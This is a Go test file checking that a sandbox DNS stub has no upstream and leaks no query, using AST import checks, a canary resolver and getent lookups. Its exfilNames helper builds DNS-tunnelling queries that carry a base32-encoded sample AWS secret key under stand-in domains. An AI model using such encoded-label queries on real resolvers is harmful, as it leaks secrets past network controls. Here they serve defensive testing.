//go:build linux

package dnsstub

import (
	"context"
	"encoding/base32"
	"go/ast"
	"go/parser"
	"go/token"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/trialnet/trialnet/internal/privtest"
	"github.com/trialnet/trialnet/netns"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// The stub has no upstream by construction: its code imports nothing
// that could send a query on (a DNS client, a process, a file it could
// read a resolver from) and calls nothing of net's that dials or
// resolves. Sockets come from its caller, already bound.
func TestNoUpstreamByConstruction(t *testing.T) {
	allowedImports := []string{
		"encoding/binary", "errors", "fmt", "io", "net", "net/netip", "strings", "sync", "sync/atomic", "time",
		"github.com/trialnet/trialnet/internal/ratelimit", "github.com/trialnet/trialnet/wire",
		"golang.org/x/net/dns/dnsmessage",
	}
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	for _, p := range files {
		if strings.HasSuffix(p, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(token.NewFileSet(), p, nil, parser.SkipObjectResolution)
		if err != nil {
			t.Fatal(err)
		}
		checked++
		for _, im := range f.Imports {
			path, _ := strconv.Unquote(im.Path.Value)
			if !slices.Contains(allowedImports, path) {
				t.Errorf("%s imports %s: the stub must have no way to send a query on; if it is needed, say why here", p, path)
			}
		}
		ast.Inspect(f, func(n ast.Node) bool {
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			if x, ok := sel.X.(*ast.Ident); ok && x.Name == "net" {
				for _, bad := range []string{"Dial", "Lookup", "Resolve", "DefaultResolver", "Resolver", "Listen", "FileConn", "FilePacketConn"} {
					if strings.HasPrefix(sel.Sel.Name, bad) && sel.Sel.Name != "Listener" {
						t.Errorf("%s uses net.%s: the stub opens no socket of its own", p, sel.Sel.Name)
					}
				}
			}
			return true
		})
	}
	if checked < 3 {
		t.Fatalf("checked %d files: the package's files moved", checked)
	}
}

// exfilNames are names a Trial could hide data in: encoded labels under
// a name of its own, below an admitted name, under a wildcard across a
// public suffix, binary labels, and the longest name there is.
func exfilNames() []string {
	secret := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG")))
	long := strings.Repeat(strings.Repeat("a", 63)+".", 3) + strings.Repeat("b", 61) + "."
	return []string{
		secret[:63] + "." + secret[63:] + ".exfil.example.",
		secret[:40] + ".api.example.com.",
		secret[:40] + ".s3.amazonaws.com.",
		"\\000\\001\\255" + secret[:20] + ".exfil.example.",
		long,
		"1.0.100.127.in-addr.arpa.",
	}
}

// everyType is every record type miekg/dns knows, meta types included.
func everyType() []uint16 {
	var ts []uint16
	for t := range dns.TypeToString {
		ts = append(ts, t)
	}
	slices.Sort(ts)
	return ts
}

// askExfil asks the stub at addrs every exfilNames name with every type
// over both transports, and fails t if any reply carries a record: no
// name that is not admitted gets anything back. It returns the queries
// asked.
func askExfil(t *testing.T, addrs stubAddrs) int {
	t.Helper()
	asked := 0
	for _, network := range transports {
		c := &dns.Client{Net: network, Timeout: 10 * time.Second}
		conn, err := c.Dial(addrs.of(network))
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range exfilNames() {
			for _, qt := range everyType() {
				q := query(name, qt)
				r, _, err := c.ExchangeWithConn(q, conn)
				if err != nil {
					t.Fatalf("%s %s %s: %v", network, name, dns.TypeToString[qt], err)
				}
				asked++
				if len(r.Answer)+len(r.Ns)+len(r.Extra) != 0 || r.Rcode == dns.RcodeSuccess {
					t.Fatalf("%s %s %s: got\n%v\nwant NXDOMAIN or REFUSED and no records", network, name, dns.TypeToString[qt], r)
				}
			}
		}
		_ = conn.Close()
	}
	return asked
}

// Exfiltration through the stub's answers: none.
func TestExfiltrationGetsNothing(t *testing.T) {
	s, addrs := newStub(t, Config{MaxTCPQueries: 1 << 16})
	n := askExfil(t, addrs)
	if st := s.Stats(); st.Answered != 0 || st.NoData != 0 || s.pool.Len() != 0 {
		t.Fatalf("after %d queries: stats %+v, %d names in the pool", n, st, s.pool.Len())
	}
}

// childEnv names the resolv.conf a test's child process mounts over
// /etc/resolv.conf, in its own mount namespace and the test's network
// namespace (see inTrialNamespace).
const childEnv = "TRIALNET_DNSSTUB_CHILD_RESOLV"

// inTrialNamespace reports whether this process is such a child, after
// mounting its resolv.conf; when it is not, it runs the test named by t
// in one, with a resolv.conf that says resolvConf, and fails t with the
// child's output if the child fails.
func inTrialNamespace(t *testing.T, resolvConf string) bool {
	t.Helper()
	privtest.Require(t)
	if path := os.Getenv(childEnv); path != "" {
		// The mount namespace is this process's own (and, as Go makes it,
		// private): the host's /etc/resolv.conf is untouched.
		if err := unix.Mount(path, "/etc/resolv.conf", "", unix.MS_BIND, ""); err != nil {
			t.Fatalf("bind-mount %s over /etc/resolv.conf: %v", path, err)
		}
		return true
	}
	dir := t.TempDir()
	path := filepath.Join(dir, "resolv.conf")
	if err := os.WriteFile(path, []byte(resolvConf), 0o644); err != nil {
		t.Fatal(err)
	}
	ns, err := netns.Create(dir, "dnsstub")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ns.Delete() })
	cmd := exec.Command(os.Args[0], "-test.run=^"+t.Name()+"$", "-test.count=1", "-test.v")
	cmd.Env = append(os.Environ(), childEnv+"="+path)
	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS, Pdeathsig: syscall.SIGKILL}
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	// Started from a thread in the namespace, the child is born in it.
	if err := ns.Do(cmd.Start); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Wait(); err != nil {
		t.Fatalf("child in a Trial-like namespace: %v\n%s", err, out.String())
	}
	t.Logf("child:\n%s", out.String())
	return false
}

// canary is a DNS server, UDP and TCP, that counts every query it gets.
type canary struct{ seen atomic.Int64 }

func (c *canary) serve(t *testing.T, addr string) {
	t.Helper()
	mux := dns.NewServeMux()
	mux.HandleFunc(".", func(w dns.ResponseWriter, r *dns.Msg) {
		c.seen.Add(1)
		m := new(dns.Msg)
		m.SetRcode(r, dns.RcodeNameError)
		_ = w.WriteMsg(m)
	})
	for _, network := range transports {
		started := make(chan struct{})
		srv := &dns.Server{Addr: addr, Net: network, Handler: mux, NotifyStartedFunc: func() { close(started) }}
		errc := make(chan error, 1)
		go func() { errc <- srv.ListenAndServe() }()
		select {
		case <-started:
		case err := <-errc:
			t.Fatalf("canary %s on %s: %v", network, addr, err)
		}
		t.Cleanup(func() { _ = srv.Shutdown() })
	}
}

// serveAt runs a stub over testPolicy on addr (UDP and TCP) in this
// process's namespace.
func serveAt(t *testing.T, addr string, cfg Config) (*Server, stubAddrs) {
	t.Helper()
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	pc, err := net.ListenPacket("udp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = s.ServeUDP(pc) }()
	go func() { _ = s.ServeTCP(ln) }()
	t.Cleanup(func() { _ = s.Close() })
	return s, stubAddrs{udp: addr, tcp: addr}
}

// No query, nor any part of one, leaves the stub: in a network namespace
// of its own where the resolver every resolv.conf-reading client would
// use (127.0.0.1:53, in /etc/resolv.conf as this process sees it) is a
// canary, every exfiltration query to the stub leaves the canary with
// nothing. The control shows the canary sees what any forwarder
// (here Go's own resolver) would send it.
func TestPrivilegedNoQueryLeaves(t *testing.T) {
	if !inTrialNamespace(t, "nameserver 127.0.0.1\noptions attempts:1 timeout:2\n") {
		return
	}
	var c canary
	c.serve(t, "127.0.0.1:53")
	r := &net.Resolver{PreferGo: true}
	_, _ = r.LookupHost(context.Background(), "control.exfil.example")
	if c.seen.Load() == 0 {
		t.Fatal("control: a lookup through the system's resolver config did not reach the canary; the test could not see a leak")
	}
	c.seen.Store(0)

	s, addrs := newStubAt(t)
	n := askExfil(t, addrs)
	if seen := c.seen.Load(); seen != 0 {
		t.Fatalf("the canary resolver saw %d queries of %d sent to the stub", seen, n)
	}
	t.Logf("%d exfiltration queries, UDP and TCP, %d record types: canary saw none; stats %+v", n, len(everyType()), s.Stats())
}

// newStubAt is the stub on DefaultListen, as a Trial would have it.
func newStubAt(t *testing.T) (*Server, stubAddrs) {
	t.Helper()
	list := testAllowlist(t)
	return serveAt(t, DefaultListen, Config{Admit: list.AdmitsName, Rate: 1e6, Burst: 1e6, MaxTCPQueries: 1 << 16})
}

// What getaddrinfo (glibc, through getent) makes of the stub's answers,
// in a namespace like a Trial's with the stub in resolv.conf: an admitted
// name has its pool address whatever family is asked for (IPv6 gets it
// v4-mapped, so IPv6-first clients fall back), and an unlisted name is
// "not found" at once.
//
// With loopback's 127.0.0.1 and ::1 alone, a lookup with AI_ADDRCONFIG
// and one family (getent ahostsv4, ahostsv6) fails before any query is
// sent: glibc counts no loopback address as configured. So a Trial's
// loopback needs one more address of each family, which this test adds
// as the wiring must (docs/transparent.md): the stub's own address, and
// an IPv6 unique-local address (which the connect6 hook refuses, as it
// refuses everything but ::1).
func TestPrivilegedGetaddrinfo(t *testing.T) {
	privtest.RequireTool(t, "getent")
	stubIP := strings.Split(DefaultListen, ":")[0]
	if !inTrialNamespace(t, "nameserver "+stubIP+"\noptions attempts:1 timeout:2\n") {
		return
	}
	s, _ := newStubAt(t)
	lookups := []struct {
		args []string
		want string // a line of getent's output begins with it; "" for exit status 2, not found
	}{
		{[]string{"hosts", "api.example.com"}, "127.100.0.1 "},
		{[]string{"ahosts", "api.example.com"}, "127.100.0.1 "},
		{[]string{"ahostsv4", "api.example.com"}, "127.100.0.1 "},
		{[]string{"ahostsv6", "api.example.com"}, "::ffff:127.100.0.1 "},
		{[]string{"hosts", "x.svc.example.com"}, "127.100.0.2 "},
		{[]string{"ahosts", "unlisted.example"}, ""},
		{[]string{"hosts", "unlisted.example"}, ""},
	}
	for _, c := range lookups[2:4] {
		out, err := exec.Command("getent", c.args...).CombinedOutput()
		t.Logf("loopback only: getent %s: %v %s", strings.Join(c.args, " "), err, out)
	}
	lo, err := netlink.LinkByName("lo")
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range []string{stubIP + "/32", "fd7a:7472:6e73::53/128"} {
		addr, err := netlink.ParseAddr(a)
		if err != nil {
			t.Fatal(err)
		}
		if err := netlink.AddrAdd(lo, addr); err != nil {
			t.Fatalf("add %s to lo: %v", a, err)
		}
	}
	for _, c := range lookups {
		out, err := exec.Command("getent", c.args...).CombinedOutput()
		t.Logf("getent %s: %v\n%s", strings.Join(c.args, " "), err, out)
		if c.want == "" {
			if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 2 {
				t.Errorf("getent %s: %v, want exit status 2 (not found)", strings.Join(c.args, " "), err)
			}
			continue
		}
		if err != nil || !slices.ContainsFunc(strings.Split(string(out), "\n"), func(l string) bool { return strings.HasPrefix(l, c.want) }) {
			t.Errorf("getent %s: %v, want a line beginning %q", strings.Join(c.args, " "), err, c.want)
		}
	}
	t.Logf("stub stats: %+v", s.Stats())
}
